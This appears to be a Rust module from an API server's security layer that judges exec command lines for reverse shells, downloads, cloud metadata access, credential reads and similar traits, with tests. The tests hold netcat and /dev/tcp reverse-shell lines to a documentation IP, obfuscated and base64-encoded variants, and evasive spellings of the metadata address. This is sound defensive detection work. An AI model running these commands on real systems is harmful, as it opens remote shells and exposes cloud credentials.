//! What a command line does, as far as its words tell.
//!
//! [`Traits::of`] takes the arguments of an exec as the API server got them. Judged are the plain
//! line and the line without a shell's quoting; what is base64 within is decoded and judged too.
//! Bounded: only the first 64 KiB count.

mod address;
mod patterns;

use std::sync::LazyLock;

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use regex::Regex;

use address::{fetches, names_metadata_address};
use patterns::{PATTERNS, TABLE, Trait};

const LONGEST: usize = 64 * 1024;

#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(super) struct Traits {
    pub shell: bool,
    /// The shell was given a command (`-c`) or a script.
    pub shell_command: bool,
    pub reverse_shell: bool,
    pub download: bool,
    /// What was fetched is run.
    pub runs_download: bool,
    pub metadata_endpoint: bool,
    pub reads_token: bool,
    pub reads_credentials: bool,
    pub service_principal: bool,
    pub copies_out: bool,
    pub copies_in: bool,
    pub breakout: bool,
    pub installs_package: bool,
    pub miner: bool,
    pub encoded_payload: bool,
    pub offensive_tool: bool,
}

impl Traits {
    pub(super) fn of(command: &[String]) -> Traits {
        if command.is_empty() {
            return Traits::default();
        }
        let mut line = command.join(" ");
        truncate(&mut line);
        let mut traits = Traits::default();
        (traits.shell, traits.shell_command) = shell(command);
        let plain = unquote(&line);
        traits.judge(&plain);
        if plain != line {
            traits.judge(&line);
        }
        for decoded in decode_base64(&plain) {
            traits.judge(&decoded);
        }
        traits
    }

    fn judge(&mut self, line: &str) {
        let found = PATTERNS.matches(line);
        let any = |trait_: Trait| {
            TABLE
                .iter()
                .enumerate()
                .any(|(i, (of, _))| *of == trait_ && found.matched(i))
        };
        self.reverse_shell |= any(Trait::ReverseShell);
        self.metadata_endpoint |= any(Trait::Metadata) || names_metadata_address(line);
        self.download |= any(Trait::Download) || fetches(line);
        self.runs_download |= any(Trait::RunsDownload);
        self.reads_token |= any(Trait::Token);
        self.service_principal |= any(Trait::ServicePrincipal);
        self.reads_credentials |=
            any(Trait::Credentials) || any(Trait::Token) || any(Trait::ServicePrincipal);
        self.breakout |= any(Trait::Breakout);
        self.installs_package |= any(Trait::Package);
        self.miner |= any(Trait::Miner);
        self.encoded_payload |= any(Trait::Encoded);
        self.offensive_tool |= any(Trait::Offensive);
        let (out, into) = tar(line);
        self.copies_out |= out;
        self.copies_in |= into;
    }
}

fn truncate(line: &mut String) {
    if line.len() > LONGEST {
        let end = (0..=LONGEST)
            .rev()
            .find(|&i| line.is_char_boundary(i))
            .unwrap_or(0);
        line.truncate(end);
    }
}

/// Whether the program is a shell, and whether it was given something to run.
fn shell(command: &[String]) -> (bool, bool) {
    let mut words = command.iter().map(String::as_str).peekable();
    while let Some(word) = words.next() {
        let program = word.rsplit(['/', '\\']).next().unwrap_or(word);
        let program = program.strip_suffix(".exe").unwrap_or(program);
        match program.to_ascii_lowercase().as_str() {
            "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "mksh" | "csh" | "tcsh" | "fish"
            | "rbash" | "rsh" | "cmd" | "powershell" | "pwsh" | "su" | "login" => {
                let runs = words.clone().any(|argument| {
                    !argument.starts_with('-')
                        || argument.trim_start_matches('-').contains('c')
                            && !argument.starts_with("--")
                });
                return (true, runs);
            }
            // Programs that run the program named after them.
            "env" | "sudo" | "doas" | "nohup" | "setsid" | "exec" | "busybox" | "toybox"
            | "nice" | "ionice" | "stdbuf" | "timeout" | "time" | "xargs" | "unbuffer" | "tini"
            | "dumb-init" | "nsenter" | "chroot" | "unshare" | "setpriv" | "script" | "command"
            | "rlwrap" | "strace" => {
                let mut option = "";
                while let Some(next) = words.peek().copied() {
                    let name = next.rsplit('/').next().unwrap_or(next);
                    let value = matches!(option, "-u" | "-g" | "-s" | "-k");
                    if is_shell_name(name) || !value && !words_before_program(next) {
                        break;
                    }
                    option = next;
                    words.next();
                }
            }
            // `sh -c …` as one argument, or words split oddly.
            _ if word.contains(char::is_whitespace) => {
                let inner: Vec<String> = word.split_whitespace().map(str::to_owned).collect();
                let (is_shell, runs) = shell(&inner);
                return (is_shell, runs || words.peek().is_some());
            }
            _ => return (false, false),
        }
    }
    (false, false)
}

fn is_shell_name(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "csh" | "tcsh" | "fish"
    )
}

/// Options, assignments, numbers and paths between a wrapper and its program.
fn words_before_program(word: &str) -> bool {
    word.starts_with('-')
        || word.contains('=')
        || word.starts_with(|c: char| c.is_ascii_digit())
        || word.starts_with('/') && !word.contains("/bin/")
}

/// The line as a shell reads it, roughly: without quotes and backslashes, `$IFS` as a blank, and
/// blanks run together.
fn unquote(line: &str) -> String {
    static IFS: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\$\{IFS[^}]*\}|\$IFS(\$?[0-9])?|\$[@*]|\$\{[@*]\}").expect("a literal pattern")
    });
    let line = IFS.replace_all(
        line,
        |found: &regex::Captures<'_>| {
            if found[0].contains("IFS") { " " } else { "" }
        },
    );
    let mut out = String::with_capacity(line.len());
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {}
            // `\x41` of printf stays what it is.
            '\\' if matches!(chars.peek(), Some('x' | '0'..='9')) => out.push(c),
            '\\' => {}
            c if c.is_whitespace() || c.is_control() => {
                if !out.ends_with(' ') {
                    out.push(' ');
                }
            }
            c => out.push(c),
        }
    }
    out
}

/// Texts that long base64 words of the line decode to, also UTF-16 as PowerShell takes it.
fn decode_base64(line: &str) -> Vec<String> {
    static WORDS: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{16,}={0,2}").expect("a literal pattern"));
    const ENGINE: GeneralPurpose = GeneralPurpose::new(
        &STANDARD,
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
    );
    WORDS
        .find_iter(line)
        .take(32)
        .filter_map(|word| {
            let word = word.as_str().replace('-', "+").replace('_', "/");
            let bytes = ENGINE.decode(word.trim_end_matches('=')).ok()?;
            let text = if bytes.len() >= 4 && bytes.iter().skip(1).step_by(2).all(|b| *b == 0) {
                bytes.iter().step_by(2).map(|b| char::from(*b)).collect()
            } else {
                String::from_utf8(bytes).ok()?
            };
            let printable = text.chars().all(|c| !c.is_control() || c.is_whitespace());
            printable.then(|| unquote(&text))
        })
        .collect()
}

/// Whether the line packs to standard output, and whether it unpacks from standard input.
fn tar(line: &str) -> (bool, bool) {
    let (mut out, mut into) = (false, false);
    for command in line.split([';', '|', '&', '\n', '(', ')', '`']) {
        let mut words = command
            .split_whitespace()
            .skip_while(|word| {
                let name = word.rsplit('/').next().unwrap_or(word);
                !matches!(name, "tar" | "gtar" | "bsdtar" | "star")
            })
            .skip(1);
        let Some(first) = words.next() else { continue };
        let rest: Vec<&str> = std::iter::once(first).chain(words).collect();
        let letters = rest
            .iter()
            .enumerate()
            .filter(|(i, word)| {
                (*i == 0 || word.starts_with('-')) && !word.starts_with("--") && **word != "-"
            })
            .map(|(_, word)| *word)
            .collect::<Vec<_>>();
        let has = |letter: char, long: &[&str]| {
            letters.iter().any(|word| word.contains(letter))
                || rest.iter().any(|word| long.contains(word))
        };
        let stream = rest.iter().any(|word| {
            matches!(
                *word,
                "-" | "--file=-" | "-f-" | "/dev/stdout" | "/dev/stdin"
            )
        }) || letters
            .iter()
            .any(|word| word.len() > 2 && word.ends_with("f-"))
            || !has('f', &["--file"]) && !rest.iter().any(|word| word.starts_with("--file"));
        let create = letters.first().is_some_and(|word| word.contains('c'))
            || rest.contains(&"--create")
            || rest.contains(&"-c");
        let extract = !create && has('x', &["--extract", "--get"]);
        out |= stream && create;
        into |= stream && extract;
    }
    (out, into)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn of(words: &[&str]) -> Traits {
        let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
        Traits::of(&words)
    }

    #[test]
    fn quoting_does_not_hide_words() {
        for line in [
            "n\"\"c -e /bin/sh 198.51.100.9 1",
            "n\\c -e /bin/sh 198.51.100.9 1",
            "nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.9${IFS}1",
            "n$@c -e /bin/sh 198.51.100.9 1",
            "NC -e /bin/sh 198.51.100.9 1",
        ] {
            assert!(of(&["sh", "-c", line]).reverse_shell, "{line}");
        }
        // `bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`, in base64 as text and as PowerShell's UTF-16.
        let encoded = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDQ0NCAwPiYx";
        let traits = of(&["sh", "-c", &format!("echo {encoded} | base64 -d | sh")]);
        assert!(traits.encoded_payload && traits.reverse_shell);
    }

    #[test]
    fn metadata_addresses_in_every_spelling() {
        for url in [
            "http://169.254.169.254/",
            "http://2852039166/",
            "http://0xA9FEA9FE/",
            "http://025177524776/",
            "http://0251.0376.0251.0376/",
            "http://169.254.43518/",
            "http://[::ffff:169.254.169.254]/",
            "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
            "http://169-254-169-254.example.net/",
        ] {
            assert!(of(&["curl", url]).metadata_endpoint, "{url}");
        }
        for url in [
            "http://169.254.169.253/",
            "http://169.254.169.2541/",
            "http://10.0.0.1/",
        ] {
            assert!(!of(&["curl", url]).metadata_endpoint, "{url}");
        }
    }

    #[test]
    fn shells_are_found_behind_what_runs_them() {
        for (words, shell, command) in [
            (&["bash"][..], true, false),
            (&["/bin/sh", "-i"], true, false),
            (&["sh", "-c", "ls"], true, true),
            (&["/usr/bin/env", "TERM=xterm", "bash"], true, false),
            (&["sudo", "-u", "root", "sh"], true, false),
            (&["timeout", "10", "sh", "-c", "id"], true, true),
            (&["chroot", "/host", "/bin/bash"], true, false),
            (&["bash -i"], true, false),
            (&["cat", "/bin/sh"], false, false),
            (&["bashful"], false, false),
        ] {
            let traits = of(words);
            assert_eq!(
                (traits.shell, traits.shell_command),
                (shell, command),
                "{words:?}"
            );
        }
    }

    #[test]
    fn tar_streams_out_or_in() {
        for (words, out, into) in [
            (&["tar", "cf", "-", "/srv"][..], true, false),
            (&["tar", "-czf", "-", "/srv"], true, false),
            (&["tar", "-c", "/srv"], true, false),
            (&["tar", "xmf", "-", "-C", "/tmp"], false, true),
            (&["tar", "--extract", "--file=-"], false, true),
            (&["tar", "czf", "/tmp/a.tgz", "/srv"], false, false),
            (&["tar", "xf", "/tmp/a.tgz"], false, false),
            (&["tar", "tf", "-"], false, false),
            (&["target", "cf", "-"], false, false),
        ] {
            let traits = of(words);
            assert_eq!(
                (traits.copies_out, traits.copies_in),
                (out, into),
                "{words:?}"
            );
        }
    }

    #[test]
    fn fetching_is_neither_a_probe_nor_local() {
        for (words, wanted) in [
            (&["curl", "https://downloads.example.net/x"][..], true),
            (&["curl", "-o", "x.sh", "downloads.example.net/x.sh"], true),
            (&["wget", "198.51.100.9"], true),
            (&["curl", "https://[2001:db8::9]/x"], true),
            (&["curl", "http://user:pw@downloads.example.net/x"], true),
            (&["curl", "http://localhost/x"], false),
            (&["curl", "http://[::1]:8080/x"], false),
            (&["curl", "http://db.shop:8080/healthz"], false),
            (&["curl", "http://169.254.169.254/metadata/instance"], false),
            (&["curl", "-o", "out.json"], false),
            (&["echo", "https://example.net/"], false),
        ] {
            assert_eq!(of(words).download, wanted, "{words:?}");
        }
    }

    proptest! {
        #[test]
        fn any_words_are_judged(words in prop::collection::vec(any::<String>(), 0..6)) {
            Traits::of(&words);
        }

        #[test]
        fn words_of_commands_are_judged(
            words in prop::collection::vec("[a-z0-9./:=|;&$(){}'\"\\\\ -]{0,40}", 0..6)
        ) {
            Traits::of(&words);
        }
    }
}
